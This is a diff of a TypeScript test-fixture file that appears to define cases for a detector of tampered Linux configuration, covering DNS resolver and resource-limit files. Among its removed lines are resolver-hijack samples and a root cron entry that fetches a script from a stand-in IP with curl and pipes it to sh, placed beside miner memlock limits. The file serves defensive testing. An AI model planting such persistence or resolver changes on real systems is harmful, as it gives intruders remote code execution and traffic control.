@@ -253,30 +253,26 @@ const names: readonly MechanismCase[] = [
   },
 ];
 
-const resolver: readonly MechanismCase[] = (
-  [
-    ['fetch-and-run', 'a resolver of the intruder as the only one, kept by immutability', true],
-    ['unowned-binary', 'a foreign resolver before the own one', false],
-    ['owned-edit', 'a foreign resolver added to resolved.conf', false],
-    ['honest', 'the resolvers of the provider', false],
-  ] as const
-).map(([dress, what, immutableFile]): MechanismCase => {
-  const common = { mechanism: 'resolver', dress, what } as const;
-  if (dress === 'owned-edit') {
-    return {
-      ...common,
-      packaged: { '/etc/systemd/resolved.conf': '[Resolve]\n' },
-      conffiles: ['/etc/systemd/resolved.conf'],
-      planted: { '/etc/systemd/resolved.conf': '[Resolve]\nDNS=203.0.113.53\n' },
-    };
-  }
-  const first = dress === 'honest' ? '' : 'nameserver 203.0.113.53\n';
-  const own = immutableFile ? '' : 'nameserver 192.0.2.53\n';
-  return {
-    ...common,
-    planted: { '/etc/resolv.conf': { content: `${first}${own}`, immutable: immutableFile } },
-  };
-});
+/**
+ * A foreign resolver looks like the provider's own, locked or not: it is told, and no dress of it is dangerous by
+ * itself.
+ */
+const resolver: readonly MechanismCase[] = [
+  {
+    mechanism: 'resolver',
+    dress: 'honest',
+    what: 'the resolvers of the provider',
+    planted: { '/etc/resolv.conf': 'search example.net\nnameserver 203.0.113.7\nnameserver 203.0.113.8\n' },
+  },
+  {
+    mechanism: 'resolver',
+    dress: 'honest',
+    what: 'a resolver of the own network, locked by the owner',
+    planted: {
+      '/etc/resolv.conf': { content: 'nameserver 192.168.1.1\nnameserver 223.5.5.5\n', immutable: true },
+    },
+  },
+];
 
 const firewall: readonly MechanismCase[] = [
   {
@@ -359,6 +355,7 @@ const kernel: readonly MechanismCase[] = [
   },
 ];
 
+/** A limit runs nothing and says nothing alone: it is told, and no dress of it is dangerous. */
 const limits: readonly MechanismCase[] = [
   {
     mechanism: 'limits',
@@ -368,16 +365,6 @@ const limits: readonly MechanismCase[] = [
       '/etc/security/limits.d/elasticsearch.conf':
         'elasticsearch soft memlock unlimited\nelasticsearch hard memlock unlimited\n',
       '/etc/security/limits.conf': '* soft nofile 65535\nroot hard nofile 1048576\n',
-    },
-  },
-  {
-    mechanism: 'limits',
-    dress: 'fetch-and-run',
-    what: 'limits for the miner beside huge pages; a limit runs nothing itself',
-    planted: {
-      '/etc/security/limits.d/99-x.conf':
-        '* soft memlock 262144\n* hard memlock 262144\n* soft nproc unlimited\n',
-      '/etc/cron.d/x': '*/5 * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n',
     },
   },
 ];
